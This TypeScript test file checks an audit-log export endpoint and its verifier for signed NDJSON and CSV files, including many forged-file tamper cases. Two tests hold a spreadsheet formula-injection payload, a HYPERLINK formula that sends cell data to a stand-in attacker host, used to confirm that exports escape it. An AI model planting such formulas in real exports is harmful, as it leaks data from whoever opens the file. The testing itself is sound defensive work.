import { runInDurableObject } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import type { paths } from "../../clients/typescript/index";
import { linkHash, payloadHash } from "../../src/audit/chain";
import { auditLogOf } from "../../src/audit/client";
import { csvFields, csvValue } from "../../src/audit/export-csv";
import {
  EXPORT_COLUMNS,
  type ExportColumn,
  type ExportFormat,
  type ExportTrailer,
} from "../../src/audit/export-file";
import { EXPORT_CHUNK_ROWS } from "../../src/audit/export-stream";
import { type ExportVerdict, ExportVerifier } from "../../src/audit/export-verify";
import { keyIdOf, type NoteKey, parseVerifierKey } from "../../src/audit/signed-note";
import { type EntryFields, LogWriter } from "../../src/audit/store";
import { readFrontier, readHead } from "../../src/audit/tree-store";
import type { AuditEventInput, AuditRow } from "../../src/audit/types";
import { call } from "../helpers/api";
import { event as auditEvent, entryFields } from "../helpers/audit";
import type { TokenClaims } from "../helpers/auth";
import { api } from "../helpers/client";
import { type TestOrg, testOrg } from "../helpers/org";

const EXPORT = "/api/v1/proxy-audit-logs/export";

/** The deployment's public keys, as a compliance officer fetches them once and keeps them. */
async function publicKeys(): Promise<NoteKey[]> {
  const res = await call("GET", "/.well-known/audit-log-keys");
  const { keys } = (await res.json()) as { keys: { verifier_key: string }[] };
  return keys.map((key) => parseVerifierKey(key.verifier_key));
}

type ExportQuery = paths[typeof EXPORT]["get"]["parameters"]["query"];

/** An event whose actor name needs CSV quoting. */
const event = (id: string, extra: Partial<AuditEventInput> = {}): AuditEventInput =>
  auditEvent(id, { actor_name: 'Jordan "JL" Lee, coordinator', ...extra });

/** Four entries, the second deleted: five rows with the entry_deleted record. */
async function seeded(): Promise<TestOrg> {
  const o = await testOrg("export");
  await auditLogOf(env.AUDIT_LOG, o.org).append([
    event("e1", { ip_address: "192.168.1.42", user_agent: "EircodexApp/2.1 Android" }),
    event("e2", { changes: { notes: { from: "line one\nline two", to: "" } } }),
    event("e3", { action: "bulk_submission", mentor_id: null, mentor_ids: ["mentor-482", "mentor-510"] }),
    event("e4", { coordinator_id: "coord-007", actor_id: "coord-007" }),
  ]);
  const deleted = await api(o.admin).DELETE("/api/v1/proxy-audit-logs/{id}", {
    params: { path: { id: "log-002" } },
  });
  expect(deleted.response.status).toBe(200);
  return o;
}

/**
 * The export through the typed client, its body as text. The body is read as bytes: workerd
 * warns when .text() reads a type it does not know as text.
 */
async function download(
  claims: TokenClaims,
  query: ExportQuery = {},
): Promise<{ res: Response; text: string }> {
  const { data, response } = await api(claims).GET(EXPORT, { params: { query }, parseAs: "arrayBuffer" });
  return { res: response, text: data === undefined ? "" : new TextDecoder().decode(data) };
}

function verify(text: string, format: ExportFormat, keys: NoteKey[], org?: string): ExportVerdict {
  const verifier = new ExportVerifier(format, { keys, ...(org ? { org } : {}) });
  for (const line of text.split("\n")) verifier.push(line);
  return verifier.finish();
}

function ndjsonLines(text: string): Record<string, unknown>[] {
  return text
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe("GET /api/v1/proxy-audit-logs/export", () => {
  it("streams NDJSON rows with their hashes, redacted rows included, and a signed checkpoint in the trailer", async () => {
    const o = await seeded();
    const { res, text } = await download(o.compliance, { format: "ndjson" });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="audit-log-1-5.ndjson"');
    const lines = ndjsonLines(text);
    expect(lines).toHaveLength(6);
    const rows = lines.slice(0, 5);
    expect(rows.map((r) => r.seq)).toEqual([1, 2, 3, 4, 5]);
    for (const row of rows) expect(Object.keys(row)).toEqual([...EXPORT_COLUMNS]);
    expect(rows[0]).toMatchObject({ event_id: "e1", action: "proxy_created", ip_address: "192.168.1.42" });
    expect(rows[1]).toMatchObject({
      event_id: "e2",
      redacted: 1,
      action: null,
      mentor_id: null,
      activity_id: "pa-e2",
    });
    expect(rows[1]?.payload_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(rows[4]).toMatchObject({ action: "entry_deleted", target_seq: 2 });

    const trailer = lines[5]?.export_trailer as ExportTrailer;
    const head = { seq: 5, hash: rows[4]?.hash as string };
    expect(trailer).toMatchObject({
      rows: 5,
      from: null,
      to: null,
      head,
      verifiable: true,
      tree_size: 5,
      log_head_seq: 5,
    });
    const signed = await api(o.compliance).GET("/api/v1/proxy-audit-logs/checkpoint");
    expect(trailer.checkpoint).toBe(signed.data?.checkpoint);
    const keys = await publicKeys();
    expect(verify(text, "ndjson", keys, o.org)).toEqual({
      valid: true,
      entries_checked: 5,
      head,
      verifiable: true,
      unverifiable_reason: null,
      signed_by: keys[0],
      origin: `mentor-activity-api/${o.org}`,
      fault: null,
    });
  });

  it("writes CSV with a header, quoted strings, bare NULLs and the trailer last", async () => {
    const o = await seeded();
    const { res, text } = await download(o.admin, { format: "csv" });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = text.split("\n");
    expect(lines[0]).toBe(EXPORT_COLUMNS.join(","));
    expect(lines[1]).toMatch(/^1,"e1",0,"proxy_created","coord-119","Jordan ""JL"" Lee, coordinator",/);
    // The redacted row: its sequence number, event ID, flag, the activity that places it, and hashes.
    const emptyBetween = (first: ExportColumn, last: ExportColumn) =>
      EXPORT_COLUMNS.indexOf(last) - EXPORT_COLUMNS.indexOf(first) - 1;
    const hash = '"[0-9a-f]{64}"';
    expect(lines[2]).toMatch(
      new RegExp(
        `^2,"e2",1,(,){${emptyBetween("redacted", "activity_id")}}"pa-e2",` +
          `(,){${emptyBetween("activity_id", "payload_hash")}}${hash},${hash},${hash}$`,
      ),
    );
    expect(lines.at(-1)).toBe("");
    expect(lines.at(-2)).toMatch(/^#export_trailer \{"rows":5,/);
    expect(verify(text, "csv", await publicKeys(), o.org)).toMatchObject({
      valid: true,
      entries_checked: 5,
      verifiable: true,
    });
  });

  it("escapes a cell a spreadsheet would run as a formula, and the file still verifies", async () => {
    const o = await testOrg("export");
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    await auditLogOf(env.AUDIT_LOG, o.org).append([
      event("f1", {
        user_agent: formula,
        actor_name: "+1 (555) 0100",
        changes: { notes: { from: "-5", to: "'quoted" } },
      }),
    ]);
    const { text } = await download(o.admin, { format: "csv" });
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(text).toContain('"\'+1 (555) 0100"');
    expect(text).not.toMatch(/(^|,)"=/m);
    expect(verify(text, "csv", await publicKeys(), o.org)).toMatchObject({ valid: true, verifiable: true });
    // NDJSON is not opened by spreadsheets and keeps the value as it is.
    const ndjson = await download(o.admin, { format: "ndjson" });
    expect(ndjsonLines(ndjson.text)[0]?.user_agent).toBe(formula);
  });

  it("keeps NULL and the empty string apart in CSV, and a value spanning lines", async () => {
    const o = await testOrg("export");
    await auditLogOf(env.AUDIT_LOG, o.org).append([
      event("multi", { changes: { notes: { from: null, to: "" } }, user_agent: "line\nbreak" }),
    ]);
    const { text } = await download(o.compliance, { format: "csv" });
    expect(text).toContain('"line\nbreak"');
    expect(verify(text, "csv", await publicKeys())).toMatchObject({
      valid: true,
      entries_checked: 1,
      verifiable: true,
    });
  });

  it("pulls a log larger than one chunk in order", async () => {
    const o = await testOrg("export");
    const client = auditLogOf(env.AUDIT_LOG, o.org);
    const total = EXPORT_CHUNK_ROWS * 2 + 7;
    for (let start = 0; start < total; start += 400) {
      const count = Math.min(400, total - start);
      await client.append(Array.from({ length: count }, (_, i) => event(`bulk-${start + i}`)));
    }
    const { text } = await download(o.admin);
    const seqs = ndjsonLines(text)
      .slice(0, -1)
      .map((r) => r.seq);
    expect(seqs).toEqual(Array.from({ length: total }, (_, i) => i + 1));
    expect(verify(text, "ndjson", await publicKeys())).toMatchObject({
      valid: true,
      entries_checked: total,
      verifiable: true,
    });
  });

  it("exports the run of entries appended between from and to, and says it is not verifiable against a root", async () => {
    const o = await testOrg("export");
    const stub = env.AUDIT_LOG.get(env.AUDIT_LOG.idFromName(o.org));
    const days = ["2026-03-01", "2026-03-02", "2026-03-03", "2026-03-04"];
    // Entries appended on four days, written through the object's own log writer.
    await runInDurableObject(stub, (_instance, state) => {
      const head = readHead(state.storage.sql);
      const writer = new LogWriter(state.storage.sql, readFrontier(state.storage.sql, head.treeSize), head);
      for (const [i, day] of days.entries()) writer.add(entryOn(`day-${i + 1}`, `${day}T10:00:00Z`));
      writer.commit();
    });
    const { res, text } = await download(o.compliance, {
      from: "2026-03-02T00:00:00Z",
      to: "2026-03-03T23:59:59+00:00",
    });
    expect(res.status).toBe(200);
    const lines = ndjsonLines(text);
    expect(lines.slice(0, -1).map((r) => r.event_id)).toEqual(["day-2", "day-3"]);
    const trailer = lines.at(-1)?.export_trailer as ExportTrailer;
    const last = lines[1] as { seq: number; hash: string };
    expect(trailer).toMatchObject({
      rows: 2,
      from: "2026-03-02T00:00:00Z",
      to: "2026-03-03T23:59:59Z",
      head: { seq: 3, hash: last.hash },
      verifiable: false,
      checkpoint: null,
      tree_size: null,
      log_head_seq: 4,
    });
    expect(trailer.unverifiable_reason).toMatch(/ranged export/);
    // Its rows hold together, but no signed root covers exactly them.
    expect(verify(text, "ndjson", await publicKeys())).toMatchObject({
      valid: true,
      entries_checked: 2,
      verifiable: false,
      signed_by: null,
    });

    const empty = await download(o.compliance, { from: "2026-04-01T00:00:00Z" });
    const emptyLines = ndjsonLines(empty.text);
    expect(emptyLines).toEqual([
      { export_trailer: expect.objectContaining({ rows: 0, head: null, checkpoint: null, log_head_seq: 4 }) },
    ]);
  });

  it("refuses coordinators and mentors, and a bad format or range", async () => {
    const o = await seeded();
    for (const caller of [o.coordinator, o.mentor]) {
      expect((await download(caller)).res.status).toBe(403);
    }
    // A format outside the contract's enum, and no token at all: neither can the typed client send.
    expect((await call("GET", `${EXPORT}?format=xml`, { as: o.admin })).status).toBe(400);
    const reversed = { from: "2026-03-02T00:00:00Z", to: "2026-03-01T00:00:00Z" };
    expect((await download(o.admin, reversed)).res.status).toBe(400);
    expect((await call("GET", EXPORT)).status).toBe(401);
  });
});

const entryOn = (eventId: string, recordedAt: string): EntryFields =>
  entryFields({ event_id: eventId, mentor_id: "mentor-482", timestamp: recordedAt, recorded_at: recordedAt });

describe("verifying an export file", () => {
  async function exported(format: ExportFormat): Promise<string> {
    const o = await seeded();
    return (await download(o.compliance, { format })).text;
  }

  it("names the row whose field was changed (NDJSON)", async () => {
    const lines = (await exported("ndjson")).split("\n");
    lines[2] = (lines[2] ?? "").replace('"mentor_id":null', '"mentor_id":"mentor-999"');
    expect(verify(lines.join("\n"), "ndjson", await publicKeys()).fault).toMatchObject({ line: 3, seq: 3 });
    expect(verify(lines.join("\n"), "ndjson", await publicKeys()).fault?.reason).toBe(
      "payload_hash_mismatch",
    );
  });

  it("reads a file written before the statement columns were added, and still finds a changed field in one", async () => {
    const later = new Set<string>(["statement_id", "statement_hash"]);
    const ndjson = (await exported("ndjson"))
      .trimEnd()
      .split("\n")
      .map((line) => {
        const value = JSON.parse(line) as Record<string, unknown>;
        for (const column of later) delete value[column];
        return JSON.stringify(value);
      });
    expect(ndjson[0]).not.toContain("statement_id");
    expect(verify(ndjson.join("\n"), "ndjson", await publicKeys())).toMatchObject({
      valid: true,
      verifiable: true,
    });
    ndjson[2] = (ndjson[2] ?? "").replace('"mentor_id":null', '"mentor_id":"mentor-999"');
    expect(verify(ndjson.join("\n"), "ndjson", await publicKeys()).fault).toMatchObject({
      line: 3,
      reason: "payload_hash_mismatch",
    });

    const [header = "", ...records] = (await exported("csv")).trimEnd().split("\n");
    const columns = header.split(",");
    const kept = columns.flatMap((column, i) => (later.has(column) ? [] : [i]));
    const older = [
      kept.map((i) => columns[i]).join(","),
      ...records.map((record) => {
        if (record.startsWith("#")) return record;
        const fields = csvFields(record) ?? [];
        return kept.map((i) => csvValue(fields[i] ?? null)).join(",");
      }),
    ];
    expect(older[0]).not.toContain("statement_id");
    expect(verify(older.join("\n"), "csv", await publicKeys())).toMatchObject({
      valid: true,
      verifiable: true,
    });
    // A column that every format of the export has may not be left out.
    const withoutActor = older[0]?.replace(",actor_id,", ",");
    expect(
      verify([withoutActor, ...older.slice(1)].join("\n"), "csv", await publicKeys()).fault?.reason,
    ).toBe("malformed_line");
  });

  it("names the row whose field was changed (CSV)", async () => {
    const lines = (await exported("csv")).split("\n");
    lines[4] = (lines[4] ?? "").replace('"coord-007"', '"coord-119"');
    expect(verify(lines.join("\n"), "csv", await publicKeys()).fault).toMatchObject({
      line: 5,
      seq: 4,
      reason: "payload_hash_mismatch",
    });
  });

  it("finds a removed row, a reordered row, a cut-short file and a hidden redaction", async () => {
    const lines = (await exported("ndjson")).split("\n");
    const without = [...lines.slice(0, 2), ...lines.slice(3)].join("\n");
    expect(verify(without, "ndjson", await publicKeys()).fault).toMatchObject({
      line: 3,
      seq: 3,
      reason: "sequence_gap",
    });

    const reordered = [lines[0], lines[2], lines[1], ...lines.slice(3)].join("\n");
    expect(verify(reordered, "ndjson", await publicKeys()).fault).toMatchObject({
      line: 2,
      reason: "sequence_gap",
    });

    const cut = lines.slice(0, 3).join("\n");
    expect(verify(cut, "ndjson", await publicKeys()).fault).toMatchObject({
      line: null,
      reason: "missing_trailer",
    });

    // Redacting a row in the file keeps its hashes valid, but no deletion record names it.
    const first = JSON.parse(lines[0] ?? "{}") as Record<string, unknown>;
    const hidden = Object.fromEntries(
      Object.entries(first).map(([k, v]) =>
        ["seq", "event_id", "payload_hash", "prev_hash", "hash"].includes(k) ? [k, v] : [k, null],
      ),
    );
    const redacted = [JSON.stringify({ ...hidden, redacted: 1 }), ...lines.slice(1)].join("\n");
    expect(verify(redacted, "ndjson", await publicKeys()).fault).toMatchObject({
      seq: 1,
      reason: "unrecorded_redaction",
    });
  });

  it("refuses a redacted row that holds what a redaction erases, whatever the trailer says of the head", async () => {
    const keys = await publicKeys();
    const lines = (await exported("ndjson")).trimEnd().split("\n");
    expect(verify(lines.join("\n"), "ndjson", keys)).toMatchObject({ valid: true, verifiable: true });
    const second = JSON.parse(lines[1] ?? "{}") as Record<string, unknown>;
    expect(second).toMatchObject({ seq: 2, redacted: 1, actor_id: null });

    // The genuinely redacted log-002 with invented content written back into it.
    const refilled = [...lines];
    refilled[1] = JSON.stringify({ ...second, actor_id: "admin-999", actor_name: "Mallory" });
    const filled = verify(refilled.join("\n"), "ndjson", keys);
    expect(filled).toMatchObject({ valid: false, verifiable: false, signed_by: null });
    expect(filled.fault).toMatchObject({ line: 2, seq: 2, reason: "redacted_entry_not_erased" });

    // A live row rewritten and flagged redacted, so its stored payload hash would be trusted.
    const rewritten = [...lines];
    const first = JSON.parse(lines[0] ?? "{}") as Record<string, unknown>;
    rewritten[0] = JSON.stringify({ ...first, redacted: 1, actor_id: "admin-999" });
    expect(verify(rewritten.join("\n"), "ndjson", keys).fault).toMatchObject({
      seq: 1,
      reason: "redacted_entry_not_erased",
    });

    // A live row emptied as a redaction would, with the unsigned trailer moved past the log's
    // head so that the deletion record seems to lie beyond the file: a verifiable file must
    // still hold it.
    const hidden = Object.fromEntries(
      Object.entries(first).map(([k, v]) =>
        ["seq", "event_id", "attribution_id", "activity_id", "payload_hash", "prev_hash", "hash"].includes(k)
          ? [k, v]
          : [k, null],
      ),
    );
    const trailer = JSON.parse(lines.at(-1) ?? "{}") as { export_trailer: Record<string, unknown> };
    expect(trailer.export_trailer.verifiable).toBe(true);
    trailer.export_trailer.log_head_seq = 999;
    const moved = [
      JSON.stringify({ ...hidden, redacted: 1 }),
      ...lines.slice(1, -1),
      JSON.stringify(trailer),
    ];
    const verdict = verify(moved.join("\n"), "ndjson", keys);
    expect(verdict).toMatchObject({ valid: false, signed_by: null });
    expect(verdict.fault).toMatchObject({ seq: 1, reason: "unrecorded_redaction" });
  });

  it("refuses a JSON column rewritten to read otherwise but parse the same (a duplicate key)", async () => {
    const changes = '{"roles":{"from":["mentor"],"to":["admin"]}}';
    const o = await testOrg("export-json");
    await auditLogOf(env.AUDIT_LOG, o.org).append([
      event("j1", { changes: { roles: { from: ["mentor"], to: ["admin"] } } }),
    ]);
    const own = (await download(o.compliance, { format: "ndjson" })).text.split("\n");
    const row = JSON.parse(own[0] ?? "{}") as Record<string, unknown>;
    expect(row.changes).toBe(changes);
    expect(verify(own.join("\n"), "ndjson", await publicKeys(), o.org)).toMatchObject({ valid: true });
    // Read from the left, this says the role went to mentor; JSON.parse keeps the last "roles".
    row.changes = '{"roles":{"from":["mentor"],"to":["mentor"]},"roles":{"from":["mentor"],"to":["admin"]}}';
    own[0] = JSON.stringify(row);
    const verdict = verify(own.join("\n"), "ndjson", await publicKeys(), o.org);
    expect(verdict).toMatchObject({ valid: false, signed_by: null });
    expect(verdict.fault).toMatchObject({ line: 1, seq: 1, reason: "payload_hash_mismatch" });
  });

  it("refuses a CSV cell whose formula escape was taken off", async () => {
    const o = await testOrg("export-formula");
    const formula = '=HYPERLINK("https://example.invalid/?"&A1,"Open")';
    await auditLogOf(env.AUDIT_LOG, o.org).append([event("f1", { user_agent: formula })]);
    const text = (await download(o.compliance, { format: "csv" })).text;
    const escaped = `"'=HYPERLINK(""https://example.invalid/?""&A1,""Open"")"`;
    expect(text).toContain(escaped);
    expect(verify(text, "csv", await publicKeys(), o.org)).toMatchObject({ valid: true });
    const live = text.replace(escaped, escaped.replace(`"'=`, `"=`));
    const verdict = verify(live, "csv", await publicKeys(), o.org);
    expect(verdict).toMatchObject({ valid: false, signed_by: null });
    expect(verdict.fault).toMatchObject({ line: 2, reason: "malformed_line" });
    // A quote mark no escape explains (the writer escapes every leading ') is refused too.
    const stray = text.replace(escaped, `"'HYPERLINK"`);
    expect(verify(stray, "csv", await publicKeys(), o.org).fault).toMatchObject({
      line: 2,
      reason: "malformed_line",
    });
  });

  it("checks the checkpoint with the public key: another key, another log's checkpoint and a rebuilt file fail", async () => {
    const keys = await publicKeys();
    const o = await seeded();
    const text = (await download(o.compliance, { format: "ndjson" })).text;
    expect(verify(text, "ndjson", keys, o.org)).toMatchObject({ valid: true, verifiable: true });
    // Without a key nothing vouches for the checkpoint.
    expect(verify(text, "ndjson", []).fault).toMatchObject({ reason: "signature_invalid" });

    // A key of the same name that is not the deployment's: its signature is not there, so nothing verifies.
    const pair = (await crypto.subtle.generateKey({ name: "Ed25519" }, true, [
      "sign",
      "verify",
    ])) as CryptoKeyPair;
    const raw = new Uint8Array((await crypto.subtle.exportKey("raw", pair.publicKey)) as ArrayBuffer);
    const name = keys[0]?.name ?? "";
    const stranger: NoteKey = { name, keyId: keyIdOf(name, raw), publicKey: raw };
    expect(verify(text, "ndjson", [stranger]).fault).toMatchObject({ reason: "signature_invalid" });
    // The deployment's key ID with another key: the signature is checked and fails.
    const impostor: NoteKey = { ...stranger, keyId: keys[0]?.keyId ?? "" };
    expect(verify(text, "ndjson", [impostor]).fault).toMatchObject({ reason: "signature_invalid" });
    // The same log asked for as another organisation's.
    expect(verify(text, "ndjson", keys, "another-org").fault).toMatchObject({ reason: "origin_mismatch" });

    // Another log's checkpoint swapped into this file's trailer.
    const elsewhere = await seeded();
    const theirs = ndjsonLines((await download(elsewhere.compliance)).text).at(-1)
      ?.export_trailer as ExportTrailer;
    const lines = text.trimEnd().split("\n");
    const trailer = JSON.parse(lines.at(-1) ?? "{}") as { export_trailer: ExportTrailer };
    const swapped = [
      ...lines.slice(0, -1),
      JSON.stringify({ export_trailer: { ...trailer.export_trailer, checkpoint: theirs.checkpoint } }),
    ];
    expect(verify(swapped.join("\n"), "ndjson", keys, o.org).fault).toMatchObject({
      reason: "origin_mismatch",
    });
    expect(verify(swapped.join("\n"), "ndjson", keys).fault).toMatchObject({ reason: "root_mismatch" });

    // A row changed and every hash recomputed to match: the root is not the signed one.
    const rows = lines.slice(0, -1).map((line) => JSON.parse(line) as AuditRow);
    const forged = rows.map((row) => (row.seq === 1 ? { ...row, actor_name: "Someone Else" } : row));
    let prev = "0".repeat(64);
    for (const row of forged) {
      if (row.redacted === 0) row.payload_hash = payloadHash(row);
      row.prev_hash = prev;
      row.hash = linkHash(prev, row.payload_hash);
      prev = row.hash;
    }
    const head = { seq: 5, hash: prev };
    const rebuilt = [
      ...forged.map((row) => JSON.stringify(row)),
      JSON.stringify({ export_trailer: { ...trailer.export_trailer, head } }),
    ];
    expect(verify(rebuilt.join("\n"), "ndjson", keys, o.org).fault).toMatchObject({
      reason: "root_mismatch",
    });
  });
});
